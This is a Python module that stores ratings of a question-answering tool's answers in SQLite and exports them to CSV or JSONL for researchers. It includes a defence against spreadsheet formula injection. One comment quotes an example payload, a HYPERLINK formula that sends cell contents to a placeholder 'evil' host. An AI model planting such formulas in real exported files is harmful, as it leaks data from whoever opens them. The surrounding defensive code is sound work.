"""Feedback on answers: a small SQLite store and its CSV/JSONL export for researchers.

What is stored is what a researcher needs to judge an answer — the question, the
answer, its citations, the settings it was produced with, the rating and an
optional comment, a UTC timestamp — and nothing about the person: no IP address,
no user agent, no account. `conversation` is a random id made per chat so several
ratings of one exchange can be told apart; it is not linked to anyone.
"""

from __future__ import annotations

import csv
import json
import sqlite3
from contextlib import closing
from dataclasses import dataclass, field
from datetime import datetime, timezone
from pathlib import Path

from ..errors import FeedbackError

FILENAME = "feedback.sqlite3"
RATINGS = ("up", "down")
MAX_COMMENT = 2000
COLUMNS = ("id", "created_at", "rating", "comment", "question", "answer", "behaviour", "citations", "settings",
           "conversation", "turn")
SCHEMA = """
CREATE TABLE IF NOT EXISTS feedback (
    id           INTEGER PRIMARY KEY AUTOINCREMENT,
    created_at   TEXT NOT NULL,              -- UTC, ISO 8601
    rating       TEXT NOT NULL CHECK (rating IN ('up', 'down')),
    comment      TEXT NOT NULL DEFAULT '',
    question     TEXT NOT NULL,
    answer       TEXT NOT NULL,
    behaviour    TEXT NOT NULL,
    citations    TEXT NOT NULL,              -- JSON list of citation records
    settings     TEXT NOT NULL,              -- JSON: filters, retrieval settings, index build
    conversation TEXT NOT NULL DEFAULT '',
    turn         INTEGER NOT NULL DEFAULT 0
);
"""



@dataclass(frozen=True)
class Feedback:
    rating: str                     # "up" | "down"
    question: str
    answer: str
    behaviour: str
    citations: list = field(default_factory=list)
    settings: dict = field(default_factory=dict)
    comment: str = ""
    conversation: str = ""
    turn: int = 0


def db_path(data_dir: Path) -> Path:
    return Path(data_dir) / FILENAME


class FeedbackStore:
    """One SQLite file; a connection per call, so it is safe from the web app's worker threads."""

    def __init__(self, path: Path):
        self.path = Path(path)

    def _connect(self) -> sqlite3.Connection:
        self.path.parent.mkdir(parents=True, exist_ok=True)
        con = sqlite3.connect(self.path, timeout=10)
        con.execute(SCHEMA)
        return con

    def add(self, fb: Feedback, now: datetime | None = None) -> int:
        """Store one rating; return its row id."""
        if fb.rating not in RATINGS:
            raise FeedbackError(f"rating must be one of {', '.join(RATINGS)}, not {fb.rating!r}")
        comment = (fb.comment or "").strip()[:MAX_COMMENT]
        stamp = (now or datetime.now(timezone.utc)).astimezone(timezone.utc).isoformat(timespec="seconds")
        with closing(self._connect()) as con, con:
            cur = con.execute(
                "INSERT INTO feedback (created_at, rating, comment, question, answer, behaviour, citations, settings,"
                " conversation, turn) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
                (stamp, fb.rating, comment, fb.question, fb.answer, fb.behaviour,
                 json.dumps(fb.citations, ensure_ascii=False), json.dumps(fb.settings, ensure_ascii=False, sort_keys=True),
                 fb.conversation, int(fb.turn)))
            return int(cur.lastrowid)

    def rows(self) -> list[dict]:
        """Every stored rating, oldest first, with citations and settings decoded."""
        if not self.path.exists():
            return []
        with closing(self._connect()) as con:
            con.row_factory = sqlite3.Row
            out = []
            for r in con.execute(f"SELECT {', '.join(COLUMNS)} FROM feedback ORDER BY id"):
                d = dict(r)
                d["citations"] = json.loads(d["citations"])
                d["settings"] = json.loads(d["settings"])
                out.append(d)
            return out


# A cell starting with one of these is run as a formula by Excel, LibreOffice and Sheets
# (`=HYPERLINK("http://evil/?"&A1, "click")`): OWASP's advice is to prefix it with a quote.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value):
    """A CSV cell that a spreadsheet shows as text, never runs as a formula.

    >>> [spreadsheet_safe(v) for v in ("=HYPERLINK(1)", "@SUM(A1)", "fine", 3)]
    ["'=HYPERLINK(1)", "'@SUM(A1)", 'fine', 3]
    """
    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_START) else value


def export(rows: list[dict], fmt: str, out: Path) -> int:
    """Write rows as CSV (citations/settings as JSON text; formula-like cells neutralised) or JSONL
    (exact text); return the row count."""
    out = Path(out)
    if fmt not in ("csv", "jsonl"):
        raise FeedbackError(f"unknown format {fmt!r}: use csv or jsonl")
    out.parent.mkdir(parents=True, exist_ok=True)
    if fmt == "jsonl":
        with out.open("w", encoding="utf-8") as f:
            for r in rows:
                f.write(json.dumps(r, ensure_ascii=False) + "\n")
    else:
        with out.open("w", encoding="utf-8", newline="") as f:
            w = csv.DictWriter(f, fieldnames=list(COLUMNS))
            w.writeheader()
            for r in rows:
                w.writerow({k: spreadsheet_safe(json.dumps(r[k], ensure_ascii=False) if k in ("citations", "settings") else r[k])
                            for k in COLUMNS})
    return len(rows)
